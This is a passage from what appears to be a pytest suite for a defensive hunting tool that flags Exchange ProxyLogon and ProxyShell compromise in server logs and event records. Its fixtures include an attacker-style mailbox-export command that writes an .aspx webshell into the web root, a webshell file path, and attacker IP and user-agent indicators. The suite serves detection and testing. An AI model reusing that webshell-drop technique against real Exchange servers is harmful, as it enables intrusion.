                                                                      "Confirm": "$false", "ResultSize": "5"}),
        ("-Offset -5 -Flag", {"Offset": "-5", "Flag": "True"}),
        ('Get-Mailbox -Identity a -Identity b -Role "a","b"', {"Identity": "a", "Role": 'a,"b"'}),
        ('-Unclosed "open value', {"Unclosed": "open value"}),
        ("", {}),
    ],
)
def test_parse_parameters(text, expected):
    assert parse_parameters(text) == expected


def test_cmdlet_fields_from_properties_or_message():
    fields = cmdlet_event_fields(MANAGEMENT_EVENTS[0])
    assert fields["Cmdlet"] == "New-MailboxExportRequest"
    assert fields["param.FilePath"] == "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\tkevsn.aspx"
    assert fields["ExecutionResult"] == "Success"
    assert fields["DateTime"] == fields["TimeCreated"] == "2021-08-10T22:30:08.4890000Z"
    no_properties = dict(MANAGEMENT_EVENTS[1], Properties=[], Id=6,
                         Message="Cmdlet failed. Cmdlet Set-Mailbox, parameters -Identity \"bob\".")
    fields = cmdlet_event_fields(no_properties)
    assert (fields["Cmdlet"], fields["param.Identity"], fields["ExecutionResult"]) == ("Set-Mailbox", "bob", "Error")
    assert cmdlet_event_fields({"Id": 2, "Message": "something else", "Properties": []}) is None


def test_report_shapes():
    finding = Finding(rule="R", title="t", attack="Other", cves=(), severity="low", source="s", line=None, time=None,
                      detail="d", evidence="e")
    assert finding.to_report()["cve"] is None
    stats = SourceStats("HttpProxy", True)
    for number in range(60):
        stats.warn(f"w{number}")
    stats.warn("w0")
    report = stats.to_report()
    assert len(report["warnings"]) == 51
    assert report["warnings"][-1] == "… and 11 more warnings"


# --------------------------------------------------------------------------------- the demo estate


@pytest.fixture(scope="module")
def demo_rules():
    return load_rule_set(DATA)


def _demo(host, rules):
    folder = str(DEMO / host)
    return hunt_bundle(folder, rules, read_bundle_facts(folder).server)


def test_demo_ex16_legacy_proxylogon_story(demo_rules):
    hunt = _demo("ex16-legacy", demo_rules)
    found = {(f.rule, f.severity, f.source.rsplit("\\", 1)[-1]) for f in hunt.findings}
    assert ("PL-26855-HTTPPROXY", "critical", "HttpProxy_2021030306-1.LOG") in found
    session = [f for f in hunt.findings if f.rule == "PL-26855-HTTPPROXY" and "proxyLogon.ecp" in f.evidence]
    assert session and session[0].severity == "critical" and ",241,241," in session[0].evidence
    assert any(rule == "PL-27065-ECPSERVER" for rule, _severity, _source in found)
    assert any(rule == "PL-27065-RESETVDIR" for rule, _severity, _source in found)
    assert ("PL-26858-OABGEN", "critical", "OABGenerator20210303-1.LOG") in found
    shells = [f for f in hunt.findings if f.source.endswith("\\aspnet_client\\system_web\\4BETNm9k.aspx")]
    assert shells and max(severity_rank(f.severity) for f in shells) == severity_rank("critical")
    # The exclusions of the story hold: autodiscover-only SSRF and the admin's nmap check.
    assert hunt.excluded.get("PL-26855-HTTPPROXY", 0) >= 2
    assert not any(f.rule == "PL-26855-HTTPPROXY" and "localhost" in f.evidence for f in hunt.findings)
    # Legitimate front-end pages are never findings.
    assert not any("\\owa\\auth\\" in f.source or "\\ecp\\auth\\" in f.source for f in hunt.findings)
    for stream in ("HttpProxy", "ECP", "OABGenerator", "Application", "MSExchangeManagement", "WebFolders"):
        assert hunt.sources[stream].present and hunt.sources[stream].required, stream
    assert hunt.sources["HttpProxy"].first.startswith("2021-02-07")


def test_demo_ex16_legacy_observables(demo_rules):
    hunt = _demo("ex16-legacy", demo_rules)
    proxy = [f for f in hunt.findings if f.rule == "PL-26855-HTTPPROXY" and f.severity == "critical"]
    assert proxy
    for finding in proxy:
        row = finding.evidence.split(",")
        assert finding.observables["ip"] == row[17] == "104.140.114.110"
        assert finding.observables["user_agent"] == row[16] == "python-requests/2.25.1"
        assert finding.observables["url"] == row[9]
    shell = next(f for f in hunt.findings if f.rule == "WEBSHELL-CONTENT")
    copy = DEMO / "ex16-legacy" / "files/C/inetpub/wwwroot/aspnet_client/system_web/4BETNm9k.aspx"
    assert shell.observables == {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.aspx",
                                 "sha256": hashlib.sha256(copy.read_bytes()).hexdigest()}
    # IIS keeps '+' for spaces in the user agent: the value stays as logged.
    crawler = next(f for f in hunt.findings if f.rule == "PL-IIS-VOLEXITY-OWA-CRAWLER")
    assert crawler.observables["user_agent"] == crawler.evidence.split()[9]
    assert crawler.observables["user_agent"].startswith("Mozilla/5.0+(compatible;+Baiduspider/2.0;")
    # Events carry no client address: no observables.
    assert all(not f.observables for f in hunt.findings if f.source.startswith("eventlog:"))


@pytest.mark.parametrize("host", ["ex19-dag1", "ex19-dag3", "ex13", "ex16-mitigated", "exse01"])
def test_demo_benign_servers_have_no_critical_or_high_findings(demo_rules, host):
    hunt = _demo(host, demo_rules)
    serious = [(f.rule, f.severity, f.source, f.line) for f in hunt.findings
               if severity_rank(f.severity) >= severity_rank("high")]
    assert serious == []
    for stream in ("HttpProxy", "ECP", "OABGenerator", "Application", "MSExchangeManagement", "WebFolders"):
        assert hunt.sources[stream].present, stream


def test_demo_ex16_patched_only_the_refused_attempts(demo_rules):
    # The demo README: four refused ProxyShell/ProxyNotShell requests (IIS and HttpProxy rows), nothing
    # else; that they are attempts on a patched server is the verdict's call, not the engine's.
    hunt = _demo("ex16-patched", demo_rules)
    attempts = {"2026-11-12T03:17:41", "2026-11-12T03:17:44", "2026-11-18T22:41:09", "2026-11-20T05:02:33"}
    assert hunt.findings
    assert {f.time[:19] for f in hunt.findings} <= attempts
    assert {f.time[:19] for f in hunt.findings if "\\W3SVC1\\" in f.source} == attempts
    assert not any(f.severity == "critical" for f in hunt.findings)
